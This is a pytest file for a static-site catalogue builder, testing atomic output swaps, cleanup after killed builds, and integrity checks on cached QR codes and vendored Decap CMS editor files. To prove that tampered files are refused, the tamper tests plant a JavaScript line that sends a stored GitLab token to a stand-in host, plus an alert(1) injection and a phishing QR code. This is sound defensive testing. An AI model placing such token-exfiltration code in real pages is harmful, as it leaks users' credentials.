"""A build killed at any moment leaves the previous site whole, and nothing behind (issue 13).

`output/` is replaced in one atomic step (swap.py); the `.output.tmp-*` / `.output.old-*`
folders of a killed build are removed by the next one; forked helpers (loading, page worker,
QR codes) end when their parent is killed instead of waiting for work forever.
"""

from __future__ import annotations

import hashlib
import os
import signal
import shutil
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from catalogue.glue import swap
from catalogue.glue.swap import clean_leftovers, swap_into_place
from fixtures import ACTIVITY, replace, write_tree

ROOT = Path(__file__).parents[1]
EPOCH = "1795564800"

# Builds with every helper process on, however small the catalogue: thresholds lowered in the
# build process only, nothing else changed.
DRIVER = textwrap.dedent("""
    import sys
    from pathlib import Path
    from catalogue.glue import render
    from catalogue.content import parse
    from catalogue.outputs import qrcodes
    from catalogue.glue.build import build_site
    parse.PARALLEL_FROM = render.PARALLEL_FROM = qrcodes._PARALLEL_FROM = 1
    render.MEMORY_BUDGET_MB = 10**9
    build_site(Path(sys.argv[1]), Path(sys.argv[2]), Path(sys.argv[3]))
""")


def tree_digest(folder: Path) -> dict[str, str]:
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def repo_with_many_pages(root: Path, count: int = 120) -> Path:
    files = {f"activities/le-dome/atelier-{i}.md": replace(ACTIVITY, "titre: Fablab ouvert", f"titre: Atelier {i}")
             for i in range(count)}
    write_tree(root, "small", repo=["content"], files=files)  # free pages are read from inside the repository only
    (root / "theme").symlink_to(ROOT / "theme")
    return root


def start_build(root: Path, output: Path, cache: Path) -> subprocess.Popen:
    env = {**os.environ, "PYTHONPATH": str(ROOT / "plugins"), "SOURCE_DATE_EPOCH": EPOCH, "CATALOGUE_CACHE_DIR": str(cache)}
    return subprocess.Popen([sys.executable, "-c", DRIVER, str(root), str(output), str(ROOT / "pelicanconf.py")],
                            env=env, cwd=root, stdout=subprocess.PIPE, stderr=subprocess.PIPE)


def children(pid: int) -> set[int]:
    found = set()
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                stat = Path(f"/proc/{entry}/stat").read_text()
            except OSError:
                continue
            if int(stat.rsplit(")", 1)[1].split()[1]) == pid:
                found.add(int(entry))
    return found


def running(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


@pytest.mark.skipif(not Path("/proc").is_dir(), reason="reads processes from /proc (Linux)")
@pytest.mark.parametrize("phase", ["loading", "rendering"])
def test_a_killed_build_leaves_the_site_whole_and_no_process_behind(tmp_path, phase):
    root, output, cache = repo_with_many_pages(tmp_path / "depot"), tmp_path / "output", tmp_path / "cache"
    first = start_build(root, output, cache)
    assert first.wait(300) == 0, first.stderr.read().decode()
    before = tree_digest(output)
    assert len(before) > 150 and "activites/atelier-7/index.html" in before

    (root / "activities/le-dome/atelier-7.md").write_text(replace(ACTIVITY, "titre: Fablab ouvert", "titre: Nouveau titre"), encoding="utf-8")
    build = start_build(root, output, tmp_path / "cache-vide")  # no cached QR codes: their helpers run too
    temporary = tmp_path / f".output.tmp-{build.pid}"
    helpers: set[int] = set()
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and build.poll() is None:
        helpers = children(build.pid)
        if helpers and (phase == "loading" or temporary.is_dir()):
            break
        time.sleep(0.002)
    assert helpers, "the build forked no helper process"
    os.kill(build.pid, signal.SIGKILL)
    build.wait(10)

    deadline = time.monotonic() + 10
    while any(running(pid) for pid in helpers) and time.monotonic() < deadline:
        time.sleep(0.05)
    left = [pid for pid in helpers if running(pid)]
    for pid in left:
        os.kill(pid, signal.SIGKILL)  # do not leave them to the rest of the test run
    assert left == [], f"helper processes still running after their build was killed: {left}"

    assert tree_digest(output) == before  # the previous site, whole, byte for byte
    if phase == "rendering":
        assert temporary.is_dir(), "the test did not kill the build while it wrote its temporary folder"

    after = start_build(root, output, cache)
    assert after.wait(300) == 0, after.stderr.read().decode()
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".output.")) == []
    rebuilt = tree_digest(output)
    # the search index names its files by their content: a new title, new names under pagefind/
    assert {k for k in rebuilt if not k.startswith("pagefind/")} == {k for k in before if not k.startswith("pagefind/")}
    assert "Nouveau titre" in (output / "activites/atelier-7/index.html").read_text(encoding="utf-8")


WATCHED = textwrap.dedent("""
    import os, sys, time
    from catalogue import parallel
    if sys.argv[1] == "watch":
        parallel._ask_kernel_to_kill_me_with_parent = lambda: False  # as on a system without prctl
    me = os.getpid()
    if os.fork() == 0:
        parallel.die_with_parent(me)
        time.sleep(60)
        os._exit(0)
    time.sleep(0.5)
    os.kill(me, 9)
""")


@pytest.mark.skipif(not Path("/proc").is_dir(), reason="reads processes from /proc (Linux)")
@pytest.mark.parametrize("how", ["prctl", "watch"])
def test_a_helper_ends_when_its_parent_is_killed(how):
    parent = subprocess.Popen([sys.executable, "-c", WATCHED, how], env={**os.environ, "PYTHONPATH": str(ROOT / "plugins")})
    helpers: set[int] = set()
    while parent.poll() is None:
        helpers |= children(parent.pid)
        time.sleep(0.01)
    assert parent.returncode == -signal.SIGKILL and helpers
    deadline = time.monotonic() + 5
    while any(running(pid) for pid in helpers) and time.monotonic() < deadline:
        time.sleep(0.05)
    left = [pid for pid in helpers if running(pid)]
    for pid in left:
        os.kill(pid, signal.SIGKILL)
    assert left == []


def test_the_swap_is_one_step_no_rename(tmp_path, monkeypatch):
    output, new = tmp_path / "output", tmp_path / ".output.tmp-1"
    (output / "a").mkdir(parents=True)
    (output / "a/index.html").write_text("ancien")
    (new / "a").mkdir(parents=True)
    (new / "a/index.html").write_text("nouveau")

    def no_rename(*args, **kwargs):
        raise AssertionError("a rename: between two renames, there is no output/")

    monkeypatch.setattr(Path, "rename", no_rename)
    monkeypatch.setattr(os, "rename", no_rename)
    swap_into_place(new, output)
    assert (output / "a/index.html").read_text() == "nouveau" and not output.is_symlink()
    assert not new.exists()


def dead_pid() -> int:
    proc = subprocess.Popen([sys.executable, "-c", "pass"])
    proc.wait()
    return proc.pid


def test_without_an_atomic_exchange_a_kill_between_the_renames_is_repaired(tmp_path, monkeypatch):
    """Fallback (no renameat2): the state a kill between the two renames leaves is repaired."""
    output = tmp_path / "output"
    old = tmp_path / f".output.old-{dead_pid()}"
    (old / "a").mkdir(parents=True)
    (old / "a/index.html").write_text("site précédent")
    partial = tmp_path / f".output.tmp-{dead_pid()}"
    partial.mkdir()
    (partial / "moitie.html").write_text("à moitié")
    removed = clean_leftovers(output)
    assert (output / "a/index.html").read_text() == "site précédent"
    assert [p.name for p in removed] == [partial.name]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["output"]

    monkeypatch.setattr(swap, "_exchange", lambda first, second: False)
    new = tmp_path / ".output.tmp-2"
    new.mkdir()
    (new / "b.html").write_text("nouveau")
    swap_into_place(new, output)
    assert sorted(p.name for p in output.iterdir()) == ["b.html"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["output"]


def test_a_running_builds_folder_is_left_alone(tmp_path):
    busy = tmp_path / f".output.tmp-{os.getppid()}"  # a live process: maybe another build right now
    busy.mkdir()
    assert clean_leftovers(tmp_path / "output") == [] and busy.is_dir()


# ---- nothing kept in .cache/ is published unchecked --------------------------------------------------


def run_build(root: Path, output: Path, **env: str) -> subprocess.CompletedProcess:
    environ = {**os.environ, "PYTHONPATH": str(ROOT / "plugins"), "SOURCE_DATE_EPOCH": EPOCH, **env}
    return subprocess.run([sys.executable, "-m", "catalogue", "--root", str(root), "build", "--output", str(output),
                           "--settings", str(ROOT / "pelicanconf.py")], env=environ, cwd=root, capture_output=True,
                          text=True, timeout=600)


def io_svg(qr) -> bytes:
    import io

    buffer = io.BytesIO()
    qr.save(buffer, kind="svg", scale=4, border=4, xmldecl=True)
    return buffer.getvalue()


def test_a_planted_or_edited_cached_qr_code_is_never_published(tmp_path):
    import segno

    root = repo_with_many_pages(tmp_path / "depot", count=3)
    cache, key = tmp_path / "cache", tmp_path / "cle"
    env = {"CATALOGUE_CACHE_DIR": str(cache), "CATALOGUE_CACHE_KEY_FILE": str(key)}
    first = run_build(root, tmp_path / "a", **env)
    assert first.returncode == 0, first.stderr
    fresh = tree_digest(tmp_path / "a")
    cached = sorted((cache / "qr").glob("*.svg"))
    assert len(cached) >= 5

    phishing = io_svg(segno.make("webcal://autre-site.example/piege.ics", error="m"))
    for index, path in enumerate(cached):
        if index % 2:
            path.write_bytes(phishing)  # a planted file, as a pull request could commit it
        else:
            stored = path.read_bytes()
            path.write_bytes(stored[:65] + stored[65:].replace(b"h1", b"h2", 1))  # one module changed, seal kept
    second = run_build(root, tmp_path / "b", **env)
    assert second.returncode == 0, second.stderr
    assert tree_digest(tmp_path / "b") == fresh  # every QR code re-made, the site byte-identical
    assert all(phishing not in p.read_bytes() for p in cached)  # and the cache repaired

    # cache files sealed on another machine (another secret), e.g. restored by a CI cache: re-made too
    third = run_build(root, tmp_path / "c", **{**env, "CATALOGUE_CACHE_KEY_FILE": str(tmp_path / "autre-cle")})
    assert third.returncode == 0 and tree_digest(tmp_path / "c") == fresh


@pytest.fixture(scope="module")
def real_editor(tmp_path_factory) -> Path:
    """A copy of the real Decap CMS files (fetched from the npm registry once, by `make admin`)."""
    from catalogue.outputs import admin as admin_writer
    from catalogue.tools import vendor

    try:
        source = vendor.vendor_editor()
    except admin_writer.EditorUnavailable as exc:
        pytest.fail(f"éditeur en ligne indisponible : {exc}")
    copy = tmp_path_factory.mktemp("cache") / "decap-cms" / admin_writer.DECAP_VERSION

    shutil.copytree(source, copy)
    return copy


def admin(cache: Path, caplog) -> dict[str, bytes]:
    from catalogue.outputs import admin as admin_writer
    from fixtures import load_catalogue

    with caplog.at_level("WARNING"):
        return admin_writer.admin_files(load_catalogue(ROOT), "", environ={"CATALOGUE_CACHE_DIR": str(cache)})


@pytest.mark.parametrize("tampering", ["edited", "added", "planted"])
def test_tampered_editor_files_are_refused_whatever_the_marker(real_editor, tmp_path, caplog, tampering):

    from catalogue.outputs import admin as admin_writer
    from catalogue.tools import vendor

    assert "admin/decap-cms.js" in admin(real_editor.parents[1], caplog)  # the genuine files are served
    cache = tmp_path / "cache"
    folder = cache / "decap-cms" / admin_writer.DECAP_VERSION
    if tampering == "planted":  # a pull request commits a marker and its own "editor"
        folder.mkdir(parents=True)
        (folder / ".complete").write_text('{"integrity": "%s"}' % vendor.DECAP_INTEGRITY)
        (folder / "decap-cms.js").write_text("fetch('https://autre-site.example/?'+localStorage.getItem('gitlab-token'))")
    else:
        shutil.copytree(real_editor, folder)
        if tampering == "edited":
            with open(folder / "decap-cms.js", "a") as script:
                script.write(";fetch('https://autre-site.example/')")
        else:
            (folder / "9999.decap-cms.js").write_text("alert(1)")
    assert (folder / ".complete").is_file()
    caplog.clear()
    files = admin(cache, caplog)
    assert not [path for path in files if path.endswith(".js") and path != "admin/catalogue-cms.js"] and "admin/catalogue-cms.js" not in files
    assert "make admin" in files["admin/index.html"].decode()
    assert any("n'ont pas l'empreinte attendue" in record.getMessage() and "relancez « make admin »" in record.getMessage()
               for record in caplog.records), [r.getMessage() for r in caplog.records]

    failing_npm = tmp_path / "npm"
    failing_npm.write_text("#!/bin/sh\necho 'npm ERR! hors ligne' >&2\nexit 1\n")
    failing_npm.chmod(0o755)
    with pytest.raises(admin_writer.EditorUnavailable, match="npm n'a pas pu télécharger"):  # `make admin` fetches it again
        vendor.vendor_editor({"CATALOGUE_CACHE_DIR": str(cache)}, npm=str(failing_npm))
